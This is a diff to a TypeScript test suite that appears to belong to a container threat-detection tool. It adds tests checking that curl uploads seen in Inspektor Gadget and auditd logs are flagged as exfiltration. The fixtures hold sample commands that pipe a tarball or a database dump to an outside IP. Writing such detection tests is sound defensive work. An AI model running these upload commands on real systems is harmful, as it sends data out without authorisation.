@@ -147,6 +147,65 @@ describe('Falco alerts', () => {
   });
 });
 
+describe('Inspektor Gadget', () => {
+  const gadget = (second: number, args: string[], isInContainer = true) => ({
+    ...{ args: args.join('\u00a0'), args_count: args.length, error: '', error_raw: 0 },
+    proc: { comm: args[0], pid: 5210, tid: 5210, mntns_id: 4026534339, parent: { comm: 'sh', pid: 1 } },
+    k8s: isInContainer
+      ? { namespace: 'shop', podName: 'web-5d9c7b7f66-x2x4z', containerName: 'web', node: 'node-1' }
+      : { namespace: '', podName: '', containerName: '', node: 'node-1' },
+    runtime: { containerId: isInContainer ? UID : '', containerName: isInContainer ? 'web' : '' },
+    timestamp: `2026-11-21T08:00:0${second}.000000001Z`,
+  });
+
+  test('an upload in a container is evidence, with its script’s quotes; on the host, and a download, are none', async () => {
+    const result = await huntLines('gadget.log', [
+      gadget(1, ['sh', '-c', "tar cz '/srv/my data' | curl -T - http://198.51.100.10/"]),
+      gadget(2, ['curl', '-T', '/srv/db.sql', 'http://198.51.100.11/'], false),
+    ]);
+    expect(result.deadLetters.total).toBe(0);
+    const [finding, ...others] = findingsOf(result, 'T1567');
+    expect([finding?.entity, others]).toEqual(['shop/web-5d9c7b7f66-x2x4z', []]);
+    expect(finding?.why).toContain('curl uploads');
+    const benign = await huntLines('gadget-benign.log', [
+      gadget(1, ['curl', '-o', '/tmp/a', 'http://198.51.100.10/a']),
+    ]);
+    expect(benign.report.findings).toEqual([]);
+  });
+});
+
+describe('auditd', () => {
+  const exec = (serial: number, args: string[], label: string) => [
+    `type=SYSCALL msg=audit(1795248000.00${serial}:${serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=52${serial} uid=0 comm="${args[0]}" exe="/usr/bin/${args[0]}" subj=${label} key="commands"`,
+    `type=EXECVE msg=audit(1795248000.00${serial}:${serial}): argc=${args.length} ${args.map((word, index) => `a${index}="${word}"`).join(' ')}`,
+  ];
+  const upload = ['curl', '-T', '/srv/db.sql', 'http://198.51.100.10/'];
+  const CONTAINER = 'system_u:system_r:container_t:s0:c123,c456';
+
+  test('an upload of a process that SELinux holds to be a container’s is its; the host’s and a download are none', async () => {
+    const result = await huntLines('audit.log', [
+      ...exec(1, upload, CONTAINER),
+      ...exec(2, upload, 'unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023'),
+    ]);
+    expect(result.deadLetters.total).toBe(0);
+    expect(findingsOf(result, 'T1567')).toEqual([
+      { entity: 's0:c123,c456', why: 'curl uploads in the container (/srv/db.sql)' },
+    ]);
+    const benign = await huntLines(
+      'audit-benign.log',
+      exec(3, ['curl', '-O', 'http://a.example/'], CONTAINER),
+    );
+    expect(benign.report.findings).toEqual([]);
+  });
+
+  test('commands of nobody’s container are no commands that were looked at', async () => {
+    const result = await huntLines('audit-host.log', exec(4, upload, 'kernel'));
+    expect(result.report.findings).toEqual([]);
+    const reasons = result.report.strategies.flatMap((strategy) => strategy.reasons).join('\n');
+    expect(reasons).toContain('no commands');
+  });
+});
+
 describe('an address that a sensor saw a container connect from', () => {
   const connect = (second: number, process: object, saddr: string) =>
     tetragon('process_kprobe', second, {
@@ -206,7 +265,9 @@ describe('an address that a sensor saw a container connect from', () => {
 
 test('the samples of all these sources in one log are read by the same sources, line by line', async () => {
   const root = contentFolder('sources');
-  const ids = (await readdir(root)).filter((id) => /^(?:falco|tetragon|tracee|kubearmor)(?:-|$)/.test(id));
+  const ids = (await readdir(root)).filter((id) =>
+    /^(?:falco|tetragon|tracee|kubearmor|inspektor-gadget)(?:-(?!other)|$)/.test(id),
+  );
   const expected: Record<string, number> = {};
   const lines: string[] = [];
   for (const id of ids) {
